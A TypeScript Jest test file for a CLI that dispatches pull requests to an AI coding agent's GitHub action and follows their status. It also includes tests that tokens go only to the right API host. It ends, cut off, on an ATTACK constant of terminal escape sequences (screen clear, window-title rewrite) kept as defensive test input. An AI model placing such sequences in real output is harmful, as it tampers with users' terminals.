// The companion CLI against the GitHub emulator (which checks every request
// against GitHub's OpenAPI description), and once end to end: `dispatch` opens
// a pull request, the bundled action runs on that event with the real Claude
// Code CLI and real git, and `watch` and `result` tell what the agent did.

import { afterEach, beforeAll, describe, expect, it } from '@jest/globals'
import { existsSync } from 'node:fs'
import { chmod, mkdir, readFile, writeFile as writeTextFile } from 'node:fs/promises'
import path from 'node:path'
import { randomBytes } from 'node:crypto'
import { renderFinal, renderWorking } from '../../src/report/comment.js'
import { renderState } from '../../src/report/state.js'
import type { Outcome } from '../../src/report/outcome.js'
import { STATUS_MARKER } from '../../src/github/status-comment.js'
import { CLI_BUNDLE, createCliWorld, type CliResult, type CliWorld } from '../harness/cli-world.js'
import { branchSha, fileAt, git as runGit } from '../harness/git/index.js'
import { say, stall, writeFile } from '../harness/model/index.js'

let world: CliWorld | undefined

beforeAll(() => {
  if (!existsSync(CLI_BUNDLE)) throw new Error(`${CLI_BUNDLE} is missing: run npm run bundle first`)
})

afterEach(async () => {
  if (world) expect(world.emulator.violations).toEqual([])
  await world?.close()
  world = undefined
})

const FROZEN = () => new Date('2025-06-01T12:00:00Z')
const BRANCH = /^async\/add-a-greeting-\d{8}-\d{6}-[0-9a-f]{6}$/

async function waitFor(check: () => boolean, what: string, timeoutMs = 20_000): Promise<void> {
  const deadline = Date.now() + timeoutMs
  while (!check()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`)
    await new Promise((resolve) => setTimeout(resolve, 20))
  }
}

/** What GitHub would hold after the action posted its status comment on a PR. */
function postStatus(w: CliWorld, number: number, body: string, user = 'github-actions[bot]') {
  const existing = w.emulator.state
    .comments(w.owner, w.repo, number)
    .find((c) => c.body.startsWith(STATUS_MARKER) && c.user === user)
  if (existing) {
    existing.body = `${STATUS_MARKER}\n${body}`
    existing.updated_at = w.emulator.state.now()
    return existing
  }
  return w.emulator.state.addComment(w.owner, w.repo, number, {
    user,
    body: `${STATUS_MARKER}\n${body}`,
  })
}

function taskOf(w: CliWorld, number: number) {
  const pull = w.emulator.state.pull(w.owner, w.repo, number)!
  return {
    owner: w.owner,
    repo: w.repo,
    prNumber: number,
    prUrl: pull.html_url,
    title: pull.title,
    body: pull.body ?? '',
    author: { login: pull.user, type: 'User' as const },
    actor: { login: pull.user, type: 'User' as const },
    action: 'opened' as const,
    headRef: pull.head.ref,
    headSha: pull.head.sha,
    baseRef: pull.base.ref,
  }
}

function finalOutcome(
  w: CliWorld,
  number: number,
  runUrl: string,
  overrides: Partial<Outcome> = {},
): Outcome {
  const task = taskOf(w, number)
  return {
    conclusion: 'success',
    task,
    links: { serverUrl: w.git.url, runUrl },
    commits: [{ sha: 'd'.repeat(40), subject: 'Add greeting' }],
    files: [{ path: 'hello.txt', added: 1, removed: 0 }],
    pushedTo: task.headRef,
    commitSha: 'd'.repeat(40),
    ...overrides,
  }
}

describe('dispatch → the action → result, end to end (bundled CLI, real Claude Code, real git)', () => {
  it('opens the PR through the API, follows the run live, and prints what the agent did', async () => {
    world = await createCliWorld({
      script: (ctx) =>
        [
          // Hold the first turn, so the "working" comment is there long enough to be seen.
          stall(
            1500,
            writeFile(path.join(world!.currentWorkspace(), 'hello.txt'), 'Hello, world!\n'),
          ),
          say('Created hello.txt with a friendly greeting.'),
        ][ctx.step],
    })
    const w = world
    const task = '## Task\n\nCreate `hello.txt` containing a friendly greeting.\n'

    // dispatch: the task on stdin, as an agent would pipe it.
    const dispatch = await w.spawnCli(
      ['dispatch', 'Add a greeting', '--body-file', '-', '--repo', w.fullName],
      {
        input: task,
      },
    ).done
    expect(dispatch.stderr).toContain(
      'Opened pull request #1 in octo/app from async/add-a-greeting-',
    )
    expect(dispatch.exitCode).toBe(0)
    const pullUrl = `${w.git.url}/${w.fullName}/pull/1`
    expect(dispatch.stdout).toBe(`#1 ${pullUrl}\n`)

    // The PR: the task as its body, on a fresh branch holding one empty commit on main.
    const pull = w.emulator.state.pull(w.owner, w.repo, 1)!
    expect(pull).toMatchObject({
      title: 'Add a greeting',
      body: task.trim(),
      draft: false,
      user: 'alice',
    })
    expect(pull.base.ref).toBe('main')
    expect(pull.head.ref).toMatch(BRANCH)
    const gitDir = path.join(w.gitRoot, `${w.fullName}.git`)
    const head = (await branchSha(w.gitRoot, w.fullName, pull.head.ref))!
    const main = (await branchSha(w.gitRoot, w.fullName, 'main'))!
    expect(await runGit(['rev-parse', `${head}^`], { env: { GIT_DIR: gitDir } })).toBe(main)
    expect(await runGit(['diff', '--stat', main, head], { env: { GIT_DIR: gitDir } })).toBe('')
    expect(await runGit(['log', '-1', '--format=%s', head], { env: { GIT_DIR: gitDir } })).toBe(
      'chore: trigger async task',
    )

    // watch, from before the run exists until it ends (not a terminal: one line per change).
    const watch = w.spawnCli([
      'watch',
      '1',
      '--interval',
      '0.1s',
      '--timeout',
      '2m',
      '--repo',
      w.fullName,
    ])
    let progress = ''
    watch.child.stderr?.on('data', (chunk: Buffer) => (progress += chunk.toString('utf8')))
    await waitFor(() => progress.includes('#1 waiting'), 'watch to see the PR waiting')

    const action = await w.runActionOn(1, {
      // GitHub queues the run; watch notices before the runner picks it up.
      beforeStart: () =>
        waitFor(() => progress.includes('#1 queued'), 'watch to see the run queued'),
    })
    expect(action.run.stderr).toBe('')
    expect(action.run.exitCode).toBe(0)
    expect(action.run.outputs.conclusion).toBe('success')
    const tip = (await branchSha(w.gitRoot, w.fullName, pull.head.ref))!
    expect(action.run.outputs.commit_sha).toBe(tip)
    expect(await fileAt(w.gitRoot, w.fullName, pull.head.ref, 'hello.txt')).toBe('Hello, world!\n')

    const watched = await watch.done
    expect(watched.exitCode).toBe(0)
    const states = watched.stderr
      .split('\n')
      .filter((text) => text !== '')
      .map((text) => /^\d\d:\d\d:\d\d #1 (\w+)/.exec(text)?.[1])
    expect(states[0]).toBe('waiting')
    expect(states).toContain('queued')
    expect(states).toContain('working')
    expect(states.at(-1)).toBe('done')
    expect(watched.stdout).toContain('Created hello.txt with a friendly greeting.')

    // result: the report without its hidden lines.
    const result = await w.spawnCli(['result', pullUrl]).done
    expect(result.exitCode).toBe(0)
    expect(result.stdout.split('\n')[0]).toBe('### ✅ async-pr finished the task')
    expect(result.stdout).toContain('Created hello.txt with a friendly greeting.')
    expect(result.stdout).toContain(tip.slice(0, 7))
    expect(result.stdout).toContain('`hello.txt`')
    expect(result.stdout).not.toContain('<!--')

    const asJson = JSON.parse(
      (await w.spawnCli(['result', '1', '--json', '--repo', w.fullName]).done).stdout,
    )
    expect(asJson).toMatchObject({
      number: 1,
      phase: 'done',
      state: 'success',
      branch: pull.head.ref,
      commitSha: tip,
      runUrl: action.workflowRun.html_url,
    })
    expect(asJson.body).toContain('Created hello.txt with a friendly greeting.')
    expect(asJson.numTurns).toBeGreaterThan(0)

    // status after the end: two requests (the PR, its comments).
    const before = w.emulator.requests.length
    const status = await w.cli(['status', '1', '--repo', w.fullName])
    expect(status.exitCode).toBe(0)
    expect(status.stdout).toContain('done (success): ✅ async-pr finished the task')
    expect(w.emulator.requests.length - before).toBe(2)
  })
})

describe('dispatch', () => {
  it('runs in parallel safely: separate processes, one title, distinct branches and PRs', async () => {
    world = await createCliWorld()
    const w = world
    const runs = Array.from(
      { length: 4 },
      () =>
        w.spawnCli([
          'dispatch',
          'Add a greeting',
          '--body',
          'Create hello.txt.',
          '--repo',
          w.fullName,
        ]).done,
    )
    const results = await Promise.all(runs)
    expect(results.map((r) => [r.exitCode, r.stderr.includes('async-pr:')])).toEqual(
      Array(4).fill([0, false]),
    )
    const numbers = results.map((r) => Number(/^#(\d+) /.exec(r.stdout)![1])).sort()
    expect(numbers).toEqual([1, 2, 3, 4])
    const branches = new Set(w.emulator.state.pulls.map((p) => p.head.ref))
    expect(branches.size).toBe(4)
    for (const branch of branches) expect(branch).toMatch(BRANCH)
  })

  it('retries a generated branch name that is already taken with a new random part', async () => {
    world = await createCliWorld()
    const w = world
    await w.seedPull({ title: 'Earlier', branch: 'async/add-a-greeting-20250601-120000-aaaaaa' })
    const suffixes = ['aaaaaa', 'bbbbbb']
    const result = await w.cli(
      ['dispatch', 'Add a greeting', '--body', 'Create hello.txt.', '--repo', w.fullName],
      { now: FROZEN, random: () => suffixes.shift() ?? 'cccccc' },
    )
    expect(result.exitCode).toBe(0)
    expect(w.emulator.state.pull(w.owner, w.repo, 2)?.head.ref).toBe(
      'async/add-a-greeting-20250601-120000-bbbbbb',
    )
    const refs = w.emulator.requests.filter((r) => r.operationId === 'git/create-ref')
    expect(refs.map((r) => r.status)).toEqual([422, 201])
  })

  it('opens drafts, takes the title from the task, and prints JSON', async () => {
    world = await createCliWorld()
    const w = world
    await writeTextFile(path.join(w.root, 'task.md'), '# Tidy the README\n\nMore words.\n')
    const result = await w.cli([
      'dispatch',
      '--body-file',
      'task.md',
      '--draft',
      '--json',
      '--repo',
      w.fullName,
    ])
    expect(result.exitCode).toBe(0)
    const printed = JSON.parse(result.stdout)
    expect(printed).toMatchObject({ number: 1, draft: true, base: 'main' })
    expect(printed.branch).toMatch(/^async\/tidy-the-readme-/)
    expect(result.stderr).toContain('marked ready for review')
    expect(w.emulator.state.pull(w.owner, w.repo, 1)).toMatchObject({
      title: 'Tidy the README',
      draft: true,
    })
    const status = await w.cli(['status', '1', '--json', '--repo', w.fullName])
    expect(JSON.parse(status.stdout)).toMatchObject({ phase: 'waiting', draft: true })
  })

  it('follows with --watch and prints the dispatch and the result as two JSON documents', async () => {
    world = await createCliWorld()
    const w = world
    // Plays the action: once the PR exists, report that nothing needed changing.
    const action = setInterval(() => {
      if (!w.emulator.state.pull(w.owner, w.repo, 1)) return
      clearInterval(action)
      const runUrl = `${w.git.url}/${w.fullName}/actions/runs/1`
      postStatus(
        w,
        1,
        renderFinal(
          finalOutcome(w, 1, runUrl, {
            conclusion: 'no_changes',
            commits: [],
            files: [],
            commitSha: undefined,
          }),
        ),
      )
    }, 20)
    const result = await w.cli([
      'dispatch',
      'Check the greeting',
      '--body',
      'Is hello.txt there?',
      '--watch',
      '--json',
      '--interval',
      '0.1s',
      '--repo',
      w.fullName,
    ])
    clearInterval(action)
    expect(result.exitCode).toBe(0)
    const [dispatched, final] = result.stdout
      .trim()
      .split(/\n(?=\{)/)
      .map((doc) => JSON.parse(doc))
    expect(dispatched).toMatchObject({
      number: 1,
      url: `${w.git.url}/${w.fullName}/pull/1`,
      draft: false,
    })
    expect(final).toMatchObject({ number: 1, phase: 'done', state: 'no_changes' })
    expect(final.body).toContain('no changes were needed')
  })

  it('takes the token from `gh auth token` for the repository’s host when no variable is set', async () => {
    world = await createCliWorld()
    const w = world
    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
    const bin = path.join(w.root, 'bin')
    await mkdir(bin)
    const argsFile = path.join(w.root, 'gh-args')
    await writeTextFile(
      path.join(bin, 'gh'),
      `#!/bin/sh\necho "$@" > '${argsFile}'\necho ${w.userToken}\n`,
    )
    await chmod(path.join(bin, 'gh'), 0o755)
    const result = await w.cli(['status', '1', '--repo', w.fullName], {
      env: { GITHUB_TOKEN: undefined, GH_TOKEN: undefined, PATH: `${bin}:${process.env.PATH}` },
    })
    expect(result.stderr).toBe('')
    expect(result.exitCode).toBe(0)
    expect((await readFile(argsFile, 'utf8')).trim()).toBe(
      `auth token --hostname ${new URL(w.git.url).host}`,
    )
  })

  it('says clearly what is wrong: token, repository, branch, base, task', async () => {
    world = await createCliWorld()
    const w = world
    const noToken = await w.cli(['dispatch', 'T', '--body', 'x', '--repo', w.fullName], {
      // No token in the environment and no gh on PATH.
      env: { GITHUB_TOKEN: undefined, GH_TOKEN: undefined, PATH: '/nonexistent' },
    })
    expect(noToken.exitCode).toBe(2)
    const host = new URL(w.git.url).host
    expect(noToken.stderr).toContain(
      `async-pr: No GitHub token for ${host}. Set GITHUB_TOKEN or GH_TOKEN, or log in with the GitHub CLI (gh auth login --hostname ${host}).`,
    )

    const badToken = await w.cli(['status', '1', '--repo', w.fullName], {
      env: { GITHUB_TOKEN: 'nope' },
    })
    expect(badToken.exitCode).toBe(2)
    expect(badToken.stderr).toContain(
      'GitHub rejected the token from GITHUB_TOKEN (401 Bad credentials)',
    )

    const unknownRepo = await w.cli(['dispatch', 'T', '--body', 'x', '--repo', 'octo/nope'])
    expect(unknownRepo.exitCode).toBe(2)
    expect(unknownRepo.stderr).toContain(
      `Repository octo/nope not found at ${w.emulator.url}, or the token cannot see it.`,
    )

    await w.seedPull({ title: 'First', branch: 'async/mine' })
    const taken = await w.cli([
      'dispatch',
      'Second',
      '--body',
      'x',
      '--branch',
      'async/mine',
      '--repo',
      w.fullName,
    ])
    expect(taken.exitCode).toBe(2)
    expect(taken.stderr).toContain(
      'The branch "async/mine" already exists in octo/app. Choose another --branch',
    )

    const noBase = await w.cli([
      'dispatch',
      'T',
      '--body',
      'x',
      '--base',
      'develop',
      '--repo',
      w.fullName,
    ])
    expect(noBase.exitCode).toBe(2)
    expect(noBase.stderr).toContain('The base branch "develop" does not exist in octo/app.')

    const noTask = await w.cli(['dispatch', 'T', '--repo', w.fullName])
    expect(noTask.exitCode).toBe(2)
    expect(noTask.stderr).toContain('The task is missing or empty')

    const notFound = await w.cli(['status', '99', '--repo', w.fullName])
    expect(notFound.exitCode).toBe(2)
    expect(notFound.stderr).toContain('Pull request #99 not found in octo/app.')
    const notFoundRepo = await w.cli(['result', '1', '--repo', 'octo/nope'])
    expect(notFoundRepo.stderr).toContain('Repository octo/nope not found')

    // Nothing was left behind by the failures: one PR, one branch besides main.
    expect(w.emulator.state.pulls).toHaveLength(1)
  })

  it('refuses a read-only token before creating anything', async () => {
    world = await createCliWorld({ userPermission: 'read' })
    const w = world
    const result = await w.cli(['dispatch', 'T', '--body', 'x', '--repo', w.fullName])
    expect(result.exitCode).toBe(2)
    expect(result.stderr).toContain('can read octo/app but not push to it')
    expect(w.emulator.requests.filter((r) => r.method !== 'GET')).toEqual([])
  })

  it('finds the repository from the origin remote of the current clone', async () => {
    world = await createCliWorld()
    const w = world
    const clone = path.join(w.root, 'clone')
    await mkdir(clone)
    await runGit(['init', '--quiet', clone])
    // On the host GITHUB_SERVER_URL names, whose API is GITHUB_API_URL.
    await runGit(['remote', 'add', 'origin', `${w.git.url}/${w.fullName}.git`], { cwd: clone })
    await w.seedPull({ title: 'From a clone', branch: 'async/from-a-clone' })
    const result = await w.cli(['status', '1'], { cwd: clone })
    expect(result.exitCode).toBe(0)
    expect(result.stdout).toContain('#1 From a clone')
    const outside = await w.cli(['status', '1'], { cwd: w.root })
    expect(outside.exitCode).toBe(2)
    expect(outside.stderr).toContain('Cannot tell which repository to use')
  })
})

describe('status, watch, result and list on seeded runs', () => {
  it('tells queued, working with its checklist, and a run that died, in few requests', async () => {
    world = await createCliWorld()
    const w = world
    const number = await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
    const pull = w.emulator.state.pull(w.owner, w.repo, number)!
    const run = w.emulator.state.addWorkflowRun(w.owner, w.repo, {
      head_sha: pull.head.sha,
      head_branch: pull.head.ref,
      status: 'queued',
    })
    const count = async (args: string[]) => {
      const before = w.emulator.requests.length
      const result = await w.cli([...args, '--repo', w.fullName])
      return { ...result, requests: w.emulator.requests.length - before }
    }

    const queued = await count(['status', String(number), '--json'])
    expect(JSON.parse(queued.stdout)).toMatchObject({
      phase: 'queued',
      state: null,
      run: { id: run.id, status: 'queued' },
    })
    expect(queued.requests).toBe(3) // the PR, its comments, the branch's runs

    run.status = 'in_progress'
    const working = renderWorking(taskOf(w, number), { serverUrl: w.git.url, runUrl: run.html_url })
    postStatus(
      w,
      number,
      `${working}\n\n**Checklist**\n\n- [x] Read the code\n- [ ] Write hello.txt\n`.replace(
        /(<!-- async-pr:state .*-->)\n\n(\*\*Checklist\*\*[\s\S]*)$/,
        '$2\n$1',
      ),
    )
    const busy = await count(['status', String(number)])
    expect(busy.stdout).toContain('working: ⏳ async-pr is working on this task')
    expect(busy.stdout).toContain('Checklist 1/2:\n  [x] Read the code\n  [ ] Write hello.txt')
    expect(busy.stdout).toContain(`Run: ${run.html_url} (in_progress)`)
    expect(busy.requests).toBe(3) // the PR, its comments, the run it names

    const early = await count(['result', String(number)])
    expect(early.exitCode).toBe(3)
    expect(early.stderr).toContain(`#${number} has no result yet: working`)

    // The runner was cancelled before the action could report.
    run.status = 'completed'
    run.conclusion = 'cancelled'
    const died = await count(['result', String(number), '--json'])
    expect(died.exitCode).toBe(1)
    expect(JSON.parse(died.stdout)).toMatchObject({ phase: 'failed', state: 'cancelled' })

    const watched = await w.cli([
      'watch',
      String(number),
      '--interval',
      '0.1s',
      '--repo',
      w.fullName,
    ])
    expect(watched.exitCode).toBe(1)
  })

  it('watches on a terminal by redrawing in place, and ends with the exit code of the outcome', async () => {
    world = await createCliWorld()
    const w = world
    const number = await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
    const pull = w.emulator.state.pull(w.owner, w.repo, number)!
    const run = w.emulator.state.addWorkflowRun(w.owner, w.repo, {
      head_sha: pull.head.sha,
      head_branch: pull.head.ref,
      status: 'in_progress',
    })
    postStatus(
      w,
      number,
      renderWorking(taskOf(w, number), { serverUrl: w.git.url, runUrl: run.html_url }),
    )
    const finishing = setTimeout(() => {
      postStatus(
        w,
        number,
        renderFinal(
          finalOutcome(w, number, run.html_url, {
            conclusion: 'timed_out',
            reason: 'The run hit timeout_minutes (30).',
          }),
        ),
      )
    }, 400)
    const watched = await w.cli(
      ['watch', String(number), '--interval', '0.1s', '--repo', w.fullName],
      { tty: true },
    )
    clearTimeout(finishing)
    expect(watched.exitCode).toBe(1)
    expect(watched.stderr).toContain('\u001b[') // cursor movement: the frame is redrawn
    expect(watched.stderr).toContain('working')
    expect(watched.stderr).toContain('✖ #1 Add a greeting · failed (timed_out)')
    expect(watched.stdout).toContain('### ⏱️ async-pr stopped: time limit reached')
    expect(watched.stdout).toContain('The run hit timeout_minutes (30).')
  })

  it('gives up at --timeout with exit 3, and stops on Ctrl-C with 130', async () => {
    world = await createCliWorld()
    const w = world
    const number = await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
    const timedOut = await w.cli([
      'watch',
      String(number),
      '--interval',
      '0.1s',
      '--timeout',
      '0.5s',
      '--repo',
      w.fullName,
    ])
    expect(timedOut.exitCode).toBe(3)
    expect(timedOut.stderr).toMatch(
      new RegExp(`Stopped watching after \\S+: #${number} is waiting\\.`),
    )
    expect(timedOut.stderr).toContain(`Watch again with: async-pr watch ${number} --repo octo/app`)

    const controller = new AbortController()
    setTimeout(() => controller.abort(), 300)
    const interrupted = await w.cli(['watch', String(number), '--repo', w.fullName], {
      signal: controller.signal,
    })
    expect(interrupted.exitCode).toBe(130)
    expect(interrupted.durationMs).toBeLessThan(5000)
  })

  it('lists async PRs: by branch prefix or by status comment, not others', async () => {
    world = await createCliWorld()
    const w = world
    const first = await w.seedPull({ title: 'First task', branch: 'async/first' })
    const second = await w.seedPull({ title: 'Second task', branch: 'async/second' })
    // A hand-made PR with a status comment, and a plain PR.
    const handMade = await w.seedPull({ title: 'Hand made', branch: 'feature/by-hand' })
    const plain = await w.seedPull({ title: 'Plain', branch: 'feature/plain' })
    const runUrl = `${w.git.url}/${w.fullName}/actions/runs/1`
    postStatus(w, handMade, renderFinal(finalOutcome(w, handMade, runUrl)))
    postStatus(w, second, renderWorking(taskOf(w, second), { serverUrl: w.git.url, runUrl }))
    // Someone quoting the marker on the plain PR does not make it an async PR.
    w.emulator.state.addComment(w.owner, w.repo, plain, { user: 'bob', body: `> ${STATUS_MARKER}` })

    const before = w.emulator.requests.length
    const listed = await w.cli(['list', '--json', '--repo', w.fullName])
    expect(listed.exitCode).toBe(0)
    const rows = JSON.parse(listed.stdout) as Array<{
      number: number
      phase: string
      state: string | null
    }>
    expect(rows.map((r) => [r.number, r.phase, r.state]).sort()).toEqual(
      [
        [first, 'waiting', null],
        [second, 'working', 'working'],
        [handMade, 'done', 'success'],
      ].sort(),
    )
    expect(w.emulator.requests.length - before).toBe(5) // the list, then one per open PR
    const text = await w.cli(['list', '--repo', w.fullName])
    expect(text.stdout).toMatch(
      new RegExp(`#${handMade}\\s+done \\(success\\)\\s+feature/by-hand\\s+Hand made`),
    )
    expect(text.stdout).not.toContain('Plain')
  })
})

/** A fake token of a kind, recognisable in any request that carries it. */
function fakeToken(kind: string): string {
  return `test-${kind}-${randomBytes(8).toString('hex')}`
}

/**
 * A `gh` first on PATH: it prints `tokens[host]` for `gh auth token --hostname HOST`, fails
 * otherwise, and notes each call with the token variables it was given.
 */
async function fakeGh(w: CliWorld, tokens: Record<string, string> = {}) {
  const bin = await mkdtempIn(w.root, 'gh-bin-')
  const calls = path.join(bin, 'calls')
  const cases = Object.entries(tokens)
    .map(([host, token]) => `  "auth token --hostname ${host}") echo ${token} ;;`)
    .join('\n')
  await writeTextFile(
    path.join(bin, 'gh'),
    `#!/bin/sh
printf '%s|%s|%s|%s|%s\\n' "$*" "\${GITHUB_TOKEN:-}" "\${GH_TOKEN:-}" "\${GH_ENTERPRISE_TOKEN:-}" "\${GITHUB_ENTERPRISE_TOKEN:-}" >> '${calls}'
case "$*" in
${cases}
  *) exit 1 ;;
esac
`,
  )
  await chmod(path.join(bin, 'gh'), 0o755)
  return {
    PATH: `${bin}:${process.env.PATH}`,
    async calls(): Promise<string[]> {
      const text = await readFile(calls, 'utf8').catch(() => '')
      return text.split('\n').filter((entry) => entry !== '')
    },
  }
}

async function mkdtempIn(root: string, prefix: string): Promise<string> {
  const dir = path.join(root, `${prefix}${randomBytes(4).toString('hex')}`)
  await mkdir(dir, { recursive: true })
  return dir
}

async function cloneWithOrigin(w: CliWorld, origin: string): Promise<string> {
  const clone = await mkdtempIn(w.root, 'clone-')
  await runGit(['init', '--quiet', clone])
  await runGit(['remote', 'add', 'origin', origin], { cwd: clone })
  return clone
}

describe('a token goes only to the API it was named for', () => {
  it('refuses a host that only the origin remote or a PR URL names, before any request', async () => {
    world = await createCliWorld()
    const w = world
    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
    // A forge on loopback, over real TLS, that records what reaches it.
    const forge = await w.otherHost()
    const gh = await fakeGh(w)
    const tokens = {
      GITHUB_TOKEN: w.userToken,
      GH_TOKEN: fakeToken('gh'),
      GH_ENTERPRISE_TOKEN: fakeToken('enterprise'),
      GITHUB_ENTERPRISE_TOKEN: fakeToken('enterprise2'),
    }
    const env = {
      ...tokens,
      // Nothing names another API: the tokens are github.com's.
      GITHUB_API_URL: undefined,
      GITHUB_SERVER_URL: undefined,
      PATH: gh.PATH,
      NODE_EXTRA_CA_CERTS: forge.caFile,
    }
    const clone = await cloneWithOrigin(w, `${forge.url}/${w.fullName}.git`)
    const pullUrl = `${forge.url}/${w.fullName}/pull/1`
    const before = w.emulator.requests.length
    const attempts: Array<[string[], string, string]> = [
      [['status', '1'], clone, 'from the origin remote'],
      [['watch', '1', '--timeout', '5s'], clone, 'from the origin remote'],
      [['list'], clone, 'from the origin remote'],
      [['dispatch', 'T', '--body', 'x'], clone, 'from the origin remote'],
      [['result', pullUrl], w.root, 'from the command line'],
      [['status', pullUrl], w.root, 'from the command line'],
      [['list', '--repo', `${forge.host}/${w.fullName}`], w.root, 'from the command line'],
    ]
    for (const [args, cwd, from] of attempts) {
      const result = await w.spawnCli(args, { cwd, env }).done
      expect([args, result.exitCode]).toEqual([args, 2])
      expect(result.stderr).toBe(
        `async-pr: ${w.fullName} (${from}) is on ${forge.host}, a host no token is set for. ` +
          'A token from GITHUB_TOKEN, GH_TOKEN, GH_ENTERPRISE_TOKEN or GITHUB_ENTERPRISE_TOKEN goes only to ' +
          'https://api.github.com, so it was not sent and no request was made. ' +
          `If ${forge.host} is a GitHub Enterprise Server you use, log in to it with "gh auth login --hostname ${forge.host}", ` +
          `or set GH_HOST=${forge.host} and GH_ENTERPRISE_TOKEN, or GITHUB_API_URL=https://${forge.host}/api/v3 and GITHUB_TOKEN. ` +
          'If the repository is on github.com, pass --repo OWNER/NAME.\n',
      )
      expect(result.stdout).toBe('')
    }
    expect(forge.requests).toEqual([])
    for (const token of Object.values(tokens)) expect(forge.saw(token)).toBe(false)
    expect(w.emulator.requests.length).toBe(before)
    // gh was asked for that host's stored token, and given none of the variables' tokens.
    const calls = await gh.calls()
    expect(calls).toHaveLength(attempts.length)
    for (const call of calls) expect(call).toBe(`auth token --hostname ${forge.host}||||`)
  })

  it('sends it to the host GITHUB_API_URL names, and so not to github.com', async () => {
    world = await createCliWorld()
    const w = world
    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
    // A GitHub Enterprise Server: https://HOST/api/v3 in front of the emulator.
    const ghes = await w.otherHost({ forwardApi: true })
    const gh = await fakeGh(w)
    const env = {
      GITHUB_TOKEN: w.userToken,
      GITHUB_API_URL: `${ghes.url}/api/v3`,
      GITHUB_SERVER_URL: undefined,
      PATH: gh.PATH,
      NODE_EXTRA_CA_CERTS: ghes.caFile,
    }
    const byUrl = await w.spawnCli(['status', `${ghes.url}/${w.fullName}/pull/1`], { env }).done
    expect(byUrl.stderr).toBe('')
    expect(byUrl.exitCode).toBe(0)
    expect(byUrl.stdout).toContain('#1 Add a greeting')
    const byName = await w.spawnCli(['status', '1', '--repo', w.fullName], { env }).done
    expect(byName.exitCode).toBe(0)
    const clone = await cloneWithOrigin(w, `git@${ghes.host.split(':')[0]}:${w.fullName}.git`)
    expect(ghes.requests.length).toBeGreaterThan(0)
    for (const request of ghes.requests)
      expect(request.headers.authorization).toBe(`token ${w.userToken}`)

    // github.com (from a clone or a URL) is not where GITHUB_API_URL sends GITHUB_TOKEN.
    const seen = ghes.requests.length
    const githubClone = await cloneWithOrigin(w, `git@github.com:${w.fullName}.git`)
    for (const [args, cwd] of [
      [['status', '1'], githubClone],
      [['result', `https://github.com/${w.fullName}/pull/1`], w.root],
    ] as Array<[string[], string]>) {
      const result = await w.spawnCli(args, { cwd, env }).done
      expect(result.exitCode).toBe(2)
      expect(result.stderr).toContain(
        `is on github.com, but GITHUB_API_URL names ${ghes.url}/api/v3, where the token from GITHUB_TOKEN or GH_TOKEN belongs, ` +
          'so it was not sent to github.com and no request was made.',
      )
    }
    // An ssh remote names a host without a port: not the API's host:port either.
    const bySsh = await w.spawnCli(['status', '1'], { cwd: clone, env }).done
    expect(bySsh.exitCode).toBe(2)
    expect(bySsh.stderr).toContain('is on localhost, a host no token is set for.')
    expect(ghes.requests.length).toBe(seen)
  })

  it('takes GH_ENTERPRISE_TOKEN for the host GH_HOST names, as the GitHub CLI does', async () => {
    world = await createCliWorld()
    const w = world
    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
    const ghes = await w.otherHost({ forwardApi: true })
    const enterprise = fakeToken('enterprise')
    w.emulator.state.addToken(enterprise, w.user)
    const gh = await fakeGh(w)
    const env = {
      GITHUB_TOKEN: w.userToken,
      GH_HOST: ghes.host,
      GH_ENTERPRISE_TOKEN: enterprise,
      GITHUB_API_URL: undefined,
      GITHUB_SERVER_URL: undefined,
      PATH: gh.PATH,
      NODE_EXTRA_CA_CERTS: ghes.caFile,
    }
    const clone = await cloneWithOrigin(w, `${ghes.url}/${w.fullName}.git`)
    const runs: Array<[string[], string]> = [
      [['status', '1', '--repo', w.fullName], w.root],
      [['status', `${ghes.url}/${w.fullName}/pull/1`], w.root],
      [['status', '1'], clone],
    ]
    for (const [args, cwd] of runs) {
      const result = await w.spawnCli(args, { cwd, env }).done
      expect([args, result.stderr, result.exitCode]).toEqual([args, '', 0])
      expect(result.stdout).toContain('#1 Add a greeting')
    }
    expect(ghes.saw(enterprise)).toBe(true)
    expect(ghes.saw(w.userToken)).toBe(false)

    // GH_HOST without its token: GITHUB_TOKEN is github.com's, so it is not sent there.
    const seen = ghes.requests.length
    const missing = await w.spawnCli(['status', '1', '--repo', w.fullName], {
      env: { ...env, GH_ENTERPRISE_TOKEN: undefined },
    }).done
    expect(missing.exitCode).toBe(2)
    expect(missing.stderr).toContain(
      `async-pr: No GitHub token for ${ghes.host}. Set GH_ENTERPRISE_TOKEN or GITHUB_ENTERPRISE_TOKEN, ` +
        `or log in with the GitHub CLI (gh auth login --hostname ${ghes.host}).`,
    )
    expect(ghes.requests.length).toBe(seen)
  })

  it('uses the token gh stored for that very host, and no other', async () => {
    world = await createCliWorld()
    const w = world
    await w.seedPull({ title: 'Add a greeting', branch: 'async/add-a-greeting' })
    const ghes = await w.otherHost({ forwardApi: true })
    const stored = fakeToken('stored')
    w.emulator.state.addToken(stored, w.user)
    const gh = await fakeGh(w, { [ghes.host]: stored })
    const env = {
      GITHUB_TOKEN: w.userToken,
      GH_ENTERPRISE_TOKEN: fakeToken('enterprise'),
      GITHUB_API_URL: undefined,
      GITHUB_SERVER_URL: undefined,
      PATH: gh.PATH,
      NODE_EXTRA_CA_CERTS: ghes.caFile,
    }
    const clone = await cloneWithOrigin(w, `${ghes.url}/${w.fullName}.git`)
    const result = await w.spawnCli(['status', '1'], { cwd: clone, env }).done
    expect(result.stderr).toBe('')
    expect(result.exitCode).toBe(0)
    expect(result.stdout).toContain('#1 Add a greeting')
    expect(ghes.requests.length).toBeGreaterThan(0)
    for (const request of ghes.requests)
      expect(request.headers.authorization).toBe(`token ${stored}`)
    expect(ghes.saw(w.userToken)).toBe(false)
    expect(ghes.saw(env.GH_ENTERPRISE_TOKEN)).toBe(false)
    expect(await gh.calls()).toEqual([`auth token --hostname ${ghes.host}||||`])
  })
})

/** Escape sequences a status comment or a PR title could carry to the reader's terminal. */
const ATTACK = {
  clear: '\u001b[2J\u001b[3J\u001b[H',
  title: '\u001b]0;owned\u0007',
